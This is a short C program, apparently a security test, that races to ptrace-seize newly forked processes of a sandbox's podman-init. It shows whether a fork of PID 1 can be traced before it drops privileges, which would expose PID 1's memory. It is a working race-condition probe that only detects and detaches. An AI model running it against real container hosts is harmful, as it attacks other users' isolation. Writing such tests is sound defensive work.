/*
 * attack_race SECONDS: catches processes of sandbox-init in the short time when they can be traced.
 *
 * It tries every pid that comes next, over and over, while others log in. A process that could be
 * seized while it still was a fork of PID 1 gives away PID 1's memory. Prints "caught" with what it
 * was, or "nothing".
 */
#include <errno.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define AHEAD 12

static bool is_init(pid_t pid)
{
	char path[64], target[256];
	ssize_t n;

	(void)snprintf(path, sizeof(path), "/proc/%ld/exe", (long)pid);
	n = readlink(path, target, sizeof(target) - 1);
	target[n < 0 ? 0 : n] = '\0';
	return strcmp(target, "/run/podman-init") == 0;
}

/* The highest pid in use: that of a child we make. */
static pid_t newest(void)
{
	pid_t pid = fork();

	if (pid == 0)
		_exit(0);
	(void)waitpid(pid, NULL, 0);
	return pid;
}

int main(int argc, char **argv)
{
	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 5);
	pid_t next = newest() + 1;
	long tries = 0, seized = 0;
	bool early;

	while (time(NULL) < end) {
		for (pid_t pid = next; pid < next + AHEAD; pid++) {
			tries++;
			if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
				continue;
			seized++;
			early = is_init(pid);
			(void)ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
			(void)waitpid(pid, NULL, __WALL);
			early = early && is_init(pid);
			(void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
			if (early) {
				(void)printf("caught %ld, a fork of PID 1, after %ld tries\n",
					     (long)pid, tries);
				return 0;
			}
		}
		if (tries % 4096 < AHEAD)
			next = newest() + 1;
	}
	(void)printf("nothing: %ld tries, %ld seized too late\n", tries, seized);
	return 1;
}
